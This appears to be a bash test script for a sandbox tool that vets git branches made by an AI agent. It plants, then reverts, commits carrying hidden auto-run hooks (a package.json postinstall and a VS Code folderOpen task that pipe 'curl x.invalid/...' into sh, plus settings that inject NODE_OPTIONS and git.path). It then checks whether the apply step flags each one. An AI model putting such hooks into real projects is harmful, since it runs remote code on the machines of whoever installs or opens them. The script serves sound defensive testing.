#!/bin/bash
# 02 (phase 1): "PARSE-FAIL in history does not refuse" against consumers
# that parse more than JSON.parse. Each variant is one commit that a
# following commit reverts (final tree clean):
#  pkg-comma  package.json with a trailing comma + postinstall (Bun reads
#             package.json with comments and trailing commas and runs the
#             root postinstall on `bun install`; npm cannot parse it)
#  pkg-cmt    package.json with a // comment + postinstall (same consumer)
#  tasks-junk .vscode/tasks.json: a runOn folderOpen task, then junk that
#             jsonc-parser's error recovery skips (VS Code runs the task)
#  sett-junk  .vscode/settings.json with an unclosed object after
#             "terminal.integrated.env.linux" / git.path-like settings
# Got through = a variant whose path apply's refusal does not name (a
# branch made without --accept is "got through" for all of them).
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"
MODE=${1:-direct}
NPKG=2 mkproj; mkdir -p .vscode tools && echo '{}' > .vscode/settings.json && echo 'console.log(1)' > tools/dev.js
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
cp package.json /tmp/pkg; cp .vscode/settings.json /tmp/sett
printf '{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl -s x.invalid/a|sh",},}\n' > package.json
git commit -qam "pkg-comma"; cp /tmp/pkg package.json; git commit -qam r1
printf '// build config\n{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl -s x.invalid/b|sh"}}\n' > package.json
git commit -qam "pkg-cmt"; cp /tmp/pkg package.json; git commit -qam r2
printf '{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"curl -s x.invalid/c|sh","runOptions":{"runOn":"folderOpen"}}] ]]] @@@ {\n' > .vscode/tasks.json
git add .vscode/tasks.json; git commit -qm "tasks-junk"; git rm -q .vscode/tasks.json; git commit -qm r3
printf '{"terminal.integrated.env.linux":{"NODE_OPTIONS":"--require /tmp/x.invalid/d.js"},"git.path":"/tmp/x.invalid/d", ] junk {{{\n' > .vscode/settings.json
git commit -qam "sett-junk"; cp /tmp/sett .vscode/settings.json; git commit -qam r4
git log --oneline | head -9 | tr '\n' ' '; echo
P
airlock exec -i "$N" -- sh -c 'cat > /tmp/plant.sh' < "$T/plant.sh" || exit 2
ag 'sh /tmp/plant.sh' | tee "$T/agent.log"; echo
sleep 0.5
try lenient
for v in "pkg-comma:x.invalid/a" "pkg-cmt:x.invalid/b" "tasks-junk:x.invalid/c" "sett-junk:x.invalid/d"; do
	c=$(grep -o "[0-9a-f]* ${v%%:*} " "$T/agent.log" | cut -d' ' -f1)
	if has_branch && hist_has "${v#*:}"; then echo "  ${v%%:*}: on the branch without --accept"; R=1
	elif [ -n "$c" ] && ! grep -q "$c" "$T/apply.log"; then echo "  ${v%%:*}: not named in the refusal"; R=1
	else echo "  ${v%%:*}: refused/named"; fi
done
grep -o 'commit [0-9a-f]*)[^;]*;[^(]*' "$T/apply.log" | head; cat "$T/apply.log" | head -c 1500; echo
finish
